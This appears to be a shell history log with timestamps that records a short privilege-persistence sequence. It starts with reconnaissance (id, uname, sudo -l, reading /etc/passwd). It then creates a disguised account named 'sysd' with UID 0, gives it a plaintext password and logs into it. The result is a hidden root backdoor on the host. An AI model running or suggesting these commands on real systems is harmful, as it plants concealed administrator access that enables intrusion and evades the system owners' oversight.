#1795224661
id
#1795224680
uname -a
#1795224705
sudo -l
#1795224713
cat /etc/passwd
#1795224725
sudo useradd -o -u 0 -M -d /root -s /bin/bash sysd
#1795224750
echo 'sysd:Quiet.Fox.9' | sudo chpasswd
#1795224768
su - sysd
#1795229754
exit
